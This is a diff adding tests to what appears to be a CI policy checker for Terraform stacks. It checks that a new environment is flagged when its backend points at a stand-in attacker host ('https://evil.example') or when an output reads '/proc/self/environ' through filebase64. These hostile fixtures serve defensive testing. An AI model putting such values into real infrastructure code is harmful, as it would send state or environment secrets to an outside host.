@@ -284,6 +284,38 @@ test('a stack without a role that plans is red: the credentials of the machine a
   expect(repository.statuses()).toEqual([red]);
 });
 
+/** Another environment in another account, as the settings make it. */
+function asNew(sample: Loose): void {
+  const text = JSON.stringify(sample).replaceAll('staging', 'new').replaceAll('111122223333', '444455556666');
+  Object.assign(sample, JSON.parse(text));
+}
+
+test.each<[string, (sample: Loose) => void, string | undefined]>([
+  ['like the others is green', () => undefined, undefined],
+  [
+    'with a backend at a foreign host is red: it would be the base of the next change',
+    (sample) => (sample.terraform.backend = { http: { address: 'https://evil.example' } }),
+    'same-backend',
+  ],
+  [
+    'with a theft is red',
+    (sample) => (sample.output.x = { value: '${filebase64("/proc/self/environ")}' }),
+    'plan-reads-no-files',
+  ],
+])('a new environment %s', (_, change, rule) => {
+  repository.handOver('stacks', (folder) => {
+    put(folder, 'keyturn-staging');
+    put(folder, 'keyturn-new', (sample) => {
+      asNew(sample);
+      change(sample);
+    });
+  });
+  const { judge } = repository.judge('success');
+  if (rule !== undefined) expect(judge?.log).toContain(`${rule} (`);
+  expect(judge?.ran).not.toContain('aws-actions/configure-aws-credentials');
+  expect(repository.statuses()).toEqual([rule === undefined ? green : red]);
+});
+
 test('a new environment is judged as a stack: red if no contract is for it', () => {
   repository.handOver('stacks', (folder) => {
     put(folder, 'keyturn-staging');
